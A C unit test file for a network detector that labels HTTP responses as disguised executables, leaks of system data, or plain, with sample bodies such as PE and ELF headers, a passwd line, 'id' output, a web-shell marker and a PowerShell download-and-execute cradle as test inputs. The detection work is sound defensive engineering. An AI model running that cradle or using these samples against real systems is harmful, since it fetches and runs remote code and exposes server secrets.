/* Tests of http_answer.h. */
#include "tests/unit/check.h"

#include "detector/http_answer.h"

#include <stdlib.h>
#include <string.h>

#define OK_OF(type) "HTTP/1.1 200 OK\r\nServer: a\r\nContent-Type: " type "\r\n\r\n"
#define PE          "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0"
#define ELF         "\177ELF\1\1\1\0\0\0\0\0\0\0\0\0"
#define ROW(text, answer)                                                                                            \
    {                                                                                                                \
        text, sizeof(text) - 1, answer                                                                               \
    }

static const struct {
    const char *text;
    size_t length;
    enum http_answer answer;
} rows[] = {
    ROW(OK_OF("image/png") PE, HTTP_ANSWER_DISGUISE),
    ROW(OK_OF("text/html; charset=x") ELF, HTTP_ANSWER_DISGUISE),
    ROW(OK_OF("application/octet-stream") PE, HTTP_ANSWER_PLAIN), /* that is what it is */
    ROW(OK_OF("application/x-msdownload") PE, HTTP_ANSWER_PLAIN),
    ROW(OK_OF("text/plain") PE, HTTP_ANSWER_PLAIN), /* servers that know no better */
    ROW(OK_OF("text/html\r\nContent-Disposition: attachment; filename=a.exe") PE, HTTP_ANSWER_PLAIN), /* a script's */
    ROW(OK_OF("text/html") "MZ is what DOS programs begin with", HTTP_ANSWER_PLAIN),
    ROW(OK_OF("image/png") "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", HTTP_ANSWER_PLAIN),
    ROW(OK_OF("text/plain") "root:x:0:0:root:/root:/bin/bash\n", HTTP_ANSWER_SPOILS),
    ROW(OK_OF("text/html") "<pre>The file begins with root:x:0:0:root</pre>", HTTP_ANSWER_PLAIN),
    ROW(OK_OF("text/plain") "[boot loader]\r\ntimeout=30", HTTP_ANSWER_SPOILS),
    ROW(OK_OF("text/plain") "uid=33(www-data) gid=33(www-data)", HTTP_ANSWER_SPOILS),
    ROW(OK_OF("text/plain") "uid=1000&gid=2", HTTP_ANSWER_PLAIN),
    ROW(OK_OF("text/html") "->|/var/www\t/|<-", HTTP_ANSWER_SPOILS),
    ROW(OK_OF("text/plain") "IEX (New-Object Net.WebClient).DownloadString('http://a/b')", HTTP_ANSWER_DISGUISE),
    ROW(OK_OF("text/plain") "# Install with IEX (New-Object Net.WebClient)", HTTP_ANSWER_PLAIN),
    ROW("GET / HTTP/1.1\r\nContent-Type: image/png\r\n\r\n" PE, HTTP_ANSWER_PLAIN),
    ROW("HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nX: root:x:0:0:", HTTP_ANSWER_PLAIN),
};

static void an_answer_tells_by_how_its_body_begins(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        if (http_answer_of((const uint8_t *)rows[i].text, rows[i].length) != rows[i].answer)
            fail_msg("%s", rows[i].text);
    }
}

static void every_cut_of_an_answer_is_safe(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        for (size_t cut = 1; cut <= rows[i].length; cut++) {
            uint8_t *copy = malloc(cut);

            assert_non_null(copy);
            memcpy(copy, rows[i].text, cut);
            (void)http_answer_of(copy, cut);
            free(copy);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(an_answer_tells_by_how_its_body_begins),
        cmocka_unit_test(every_cut_of_an_answer_is_safe),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
